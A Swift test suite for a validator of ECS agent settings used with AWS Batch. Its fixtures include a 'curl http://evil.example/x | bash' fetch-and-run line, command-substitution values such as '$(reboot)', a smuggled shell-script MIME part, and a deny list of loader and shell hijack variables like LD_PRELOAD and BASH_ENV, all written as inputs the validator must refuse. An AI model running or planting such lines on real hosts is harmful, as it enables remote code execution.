import Diagnostics
import ManifestLoading
import TestSupport
import Testing

/// The lines that `ecs-config` adds to the ECS agent's settings.
struct AgentSettingsTests {
    /// The problems of a file, in brackets, with the severity's first letter and the line's number.
    private static func problems(_ lines: String) -> [String] {
        let manifest = load(fields: "ecs-config: ecs.config", files: MemoryFiles(["ecs.config": lines]))
        return manifest.diagnostics.map { found in
            let line = found.summary.split(separator: " ").dropFirst().first ?? ""
            return "\(found.severity.rawValue) \(found.kind) \(line)"
        }
    }

    @Test(arguments: [
        "ECS_LOGLEVEL=debug\n", "# a comment\n\n  \nECS_LOGLEVEL=debug", "ECS_INSTANCE_ATTRIBUTES={\"a\":\"it's\"}",
        "ECS_A=\"quoted value\"\nECS_B=''", "ECS_A=", "NO_PROXY=169.254.169.254,169.254.170.2,/var/run/docker.sock",
        "ECS_A=$(reboot)`id`;x=1", "ECS_IMAGE_PULL_BEHAVIOR=always", "ECS_CLUSTER_X=1", "# ECS_CLUSTER=mine",
        "ECS_A='x' 'y'", "ECS_A=x'y\"z", "ECS_A=\"x\\\"y\"", "ECS_A='x'y'", "ECS_A=x \"y", "ECS_PATH=/x", "ECS_A=\\'x",
    ])
    func `takes what the agent reads`(lines: String) {
        #expect(Self.problems(lines) == [])
        let manifest = load(fields: "ecs-config: ecs.config", files: MemoryFiles(["ecs.config": lines]))
        #expect(forge(manifest)?.ecsConfig == lines)
    }

    @Test(
        arguments: [
            ("ECS_LOGLEVEL=info\nRECONCILE_ECS\ncurl http://evil.example/x | bash", [2, 3]),
            ("ECS_A=1\n--==RECONCILE==\nContent-Type: text/x-shellscript", [2, 3]), ("ECS_A", [1]), ("=x", [1]),
            ("export ECS_A=1", [1]), ("ECS A=1", [1]), ("1ECS=1", [1]), ("ECS-A=1", [1]), ("ECS_A =1", [1]),
            ("ECS_A=1\r\nECS_B=2\r\n", [1, 2]), ("ECS_A=1\u{85}id", [1]), ("ECS_A=1\u{2028}id", [1]),
            ("ECS_A=1\u{B}id", [1]),
            ("ECS_A=1\tb", [1]), ("ECS_A=1\u{1B}[31m", [1]), ("ECS_A=\u{E9}", [1]), ("# \u{E9}", [1]),
            ("\u{FEFF}ECS_A=1", [1]), ("ECS_A=1\\\nECS_B=1", [1]), ("# a\\\nECS_B=1", [1]), ("ECS_A=\"x\nECS_B=1", [1]),
            ("ECS_A='", [1]), ("ECS_A='x' \"y'\nECS_B=1", [1]), ("ECS_A='''\nECS_B=1", [1]),
            ("ECS_A=\"x\\\"\nECS_B=1", [1]), ("ECS_A=''\"\nECS_B=1", [1]), ("ECS_A= '\nECS_B=1", [1]),
        ] as [(String, [Int])])
    func `refuses what is no setting, or would swallow the next line`(lines: String, numbers: [Int]) {
        #expect(Self.problems(lines) == numbers.map { "error invalid-value \($0)" })
    }

    @Test(arguments: [
        ("ECS_CLUSTER=mine", "error"), ("ECS_A=1\n  ECS_CLUSTER=", "error"),
        ("ECS_AVAILABLE_LOGGING_DRIVERS=[\"json-file\"]", "error"), ("ECS_AVAILABLE_LOGGING_DRIVERS=", "error"),
        ("ECS_AVAILABLE_LOGGING_DRIVERS=[\"json-file\",\"awslogs\"]", "warning"), ("ECS_RESERVED_MEMORY=64", "warning"),
        ("ECS_DISABLE_IMAGE_CLEANUP=true", "warning"), ("ECS_ENGINE_TASK_CLEANUP_WAIT_DURATION=1h", "warning"),
        ("ECS_IMAGE_CLEANUP_INTERVAL=1h", "warning"), ("ECS_IMAGE_MINIMUM_CLEANUP_AGE=1h", "warning"),
        ("ECS_NUM_IMAGES_DELETE_PER_CYCLE=1", "warning"),
    ])
    func `keeps what AWS Batch sets for AWS Batch`(lines: String, severity: String) {
        let line = lines.contains("\n") ? 2 : 1
        #expect(Self.problems(lines) == ["\(severity) agent-setting \(line)"])
    }

    @Test(arguments: [
        "LD_PRELOAD=/mnt/efs/x.so", "LD_LIBRARY_PATH=/mnt/efs", "PATH=/mnt/efs:/usr/bin", "BASH_ENV=/mnt/efs/x.sh",
        "ENV=/x",
        "SHELLOPTS=xtrace", "PS4=$(id)", "PYTHONPATH=/mnt/efs", "PERL5OPT=-Mx", "GCONV_PATH=/x", "IFS=x",
        "  BASH_ENV=/x",
    ])
    func `refuses what a shell or the loader of programs would obey`(line: String) {
        #expect(Self.problems("ECS_A=1\n" + line) == ["error agent-setting 2"])
    }

    @Test func `never shows a value`() {
        let lines = "ECS_ENGINE_AUTH_DATA {\"password\":\"hunter2\"}\nECS_CLUSTER=hunter2\nECS_A=\"hunter2"
        let manifest = load(fields: "ecs-config: ecs.config", files: MemoryFiles(["ecs.config": lines]))
        #expect(manifest.diagnostics.count == 3)
        #expect(manifest.diagnostics.allSatisfy { !"\($0.summary) \($0.detail)".contains("hunter2") })
        #expect(manifest.diagnostics.map(\.outline).allSatisfy { $0.hasSuffix("8:17") })
    }

    @Test func `shows twenty problems of a file that is none`() {
        #expect(Self.problems(String(repeating: "x\n", count: 500)).count == 20)
    }

    @Test func `checks the lines of an export too`() {
        let export = """
            {"discriminator": "aws-batch", "region": "eu-west-1", "workDir": "s3://bucket", "labels": [],
             "forge": {"type": "SPOT", "maxCpus": 4, "ecsConfig": "ECS_A=1\\nECS_CLUSTER=mine\\nid"}}
            """
        let manifest = load(
            "compute-envs:\n  - name: one\n    file-path: one.json\n", files: MemoryFiles(["one.json": export]))
        #expect(manifest.diagnostics.map(\.outline) == ["agent-setting 2:55", "invalid-value 2:55"])
        #expect(manifest.diagnostics.first?.summary == "line 2 of 'ecsConfig' sets ECS_CLUSTER, which AWS Batch sets")
    }
}
